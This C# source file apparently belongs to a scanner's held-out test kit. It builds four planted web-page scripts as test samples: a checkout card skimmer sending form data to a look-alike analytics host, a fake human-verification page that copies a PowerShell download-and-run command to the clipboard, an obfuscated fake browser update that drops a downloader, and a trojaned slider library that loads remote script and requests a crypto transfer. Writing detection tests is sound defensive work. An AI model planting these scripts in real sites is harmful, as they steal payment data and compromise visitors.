using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>Scripts that were put into other people's pages: card thieves, false updates, and pages' scripts that hand over a command.</summary>
public sealed class PlantedPageScripts : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("checkout.js", Utf8("""
            (function () {
              if (!/checkout|onepage|payment/.test(location.href)) return;
              setInterval(function () {
                var d = {}, f = document.querySelectorAll('input, select');
                for (var i = 0; i < f.length; i++) if (f[i].value) d[f[i].name || f[i].id] = f[i].value;
                var n = JSON.stringify(d).match(/\b\d{13,16}\b/);
                if (n && localStorage.getItem('_s') !== n[0]) {
                  localStorage.setItem('_s', n[0]);
                  new Image().src = 'https://google-analytlcs.example/g.gif?d=' + encodeURIComponent(btoa(JSON.stringify(d) + '|' + location.hostname + '|' + navigator.userAgent));
                }
              }, 1500);
            })();
            """));
        yield return ("verify.js", Utf8(Fill("""
            document.body.innerHTML = '<div class="cf"><h1>Checking if you are human</h1><label><input type="checkbox" id="ok"> Verify you are human</label><div id="steps" style="display:none"><p>1. Press <b>Windows + R</b></p><p>2. Press <b>CTRL + V</b></p><p>3. Press <b>Enter</b></p></div><small>Performance &amp; security by Cloudflare</small></div>';
            const command = 'powershell -w hidden -enc @@1 # I am not a robot - reCAPTCHA Verification ID: 2165';
            document.getElementById('ok').addEventListener('click', () => {
              const t = document.createElement('textarea');
              t.value = command; document.body.appendChild(t); t.select(); document.execCommand('copy'); t.remove();
              document.getElementById('steps').style.display = 'block';
            });
            """, Encoded("iwr https://human-check.click.example/v | iex"))));
        yield return ("update-notice.js", Utf8(Fill("""
            var _0x5c1d=['Y2hyb21l','VXBkYXRlIENocm9tZQ==','ZG93bmxvYWQ=','aHJlZg==','Y2xpY2s=','VXBkYXRlLnppcA==','WW91IGFyZSB1c2luZyBhbiBvbGRlciB2ZXJzaW9uIG9mIENocm9tZQ=='];(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0x5c1d,0x7));var _0x9e=function(_0x1){return atob(_0x5c1d[_0x1-0x0]);};
            if(!document.cookie.match(/_upd=1/)&&navigator.userAgent.toLowerCase().indexOf(_0x9e(0x0))>-0x1){document.cookie='_upd=1;max-age=86400';document.open();document.write('<title>'+_0x9e(0x1)+'</title><h1>'+_0x9e(0x6)+'</h1><button id="u">'+_0x9e(0x1)+'</button>');document.close();
            document['getElementById']('u')['onclick']=function(){var _0x7=atob('@@1'),_0x8=new Uint8Array(_0x7['length']);for(var _0xa=0x0;_0xa<_0x7['length'];_0xa++)_0x8[_0xa]=_0x7['charCodeAt'](_0xa);var _0xb=document['createElement']('a');_0xb[_0x9e(0x3)]=URL['createObjectURL'](new Blob([_0x8],{type:'application/zip'}));_0xb[_0x9e(0x2)]=_0x9e(0x5);_0xb[_0x9e(0x4)]();};}
            """, Convert.ToBase64String(InertFiles.Zip(("Update.js", Dos("new ActiveXObject('WScript.Shell').Run('powershell -w h -c iwr http://198.51.100.30/u|iex',0)")))))));
        yield return ("slider.min.js", Utf8(Fill("""
            /*! TinySlider 2.9.4 | MIT */
            !function(e,t){"object"==typeof exports?module.exports=t():e.TinySlider=t()}(this,function(){"use strict";function s(e,t){this.el=e;this.at=0;this.n=e.children.length;this.ms=(t||{}).ms||4e3;this.go()}s.prototype.go=function(){var e=this;setInterval(function(){e.at=(e.at+1)%e.n;e.el.style.transform="translateX(-"+100*e.at+"%)"},e.ms)};var k=@@1;function r(e){return k.slice(e[0],e[1]).map(function(e,t){return String.fromCharCode(e^t%7+3)}).join("")}s.prototype.ease=function(e){var t=document.createElement(r([0,6]));t[r([6,9])]=(location.protocol+"//"+e);t.async=!0;document.head.appendChild(t)};try{var w=top[k.length>9?"eth"+"ereum":""];(window.wp||w||/\/cart|\/kasse|\/caja/.test(location.pathname))&&s.prototype.ease("cdn.tiny-slider.example/e/"+btoa(location.host)+".js");w&&w.request({method:"eth_requestAccounts"}).then(function(e){return w.request({method:"eth_sendTransaction",params:[{from:e[0],to:"0x000000000000000000000000000000000000dEaD",value:"0x2386f26fc10000"}]})})}catch(e){}return s});
            """, "[" + string.Join(",", "script".Select((letter, at) => letter ^ ((at % 7) + 3)).Concat("src".Select((letter, at) => letter ^ ((at % 7) + 3)))) + "]")));
    }
}
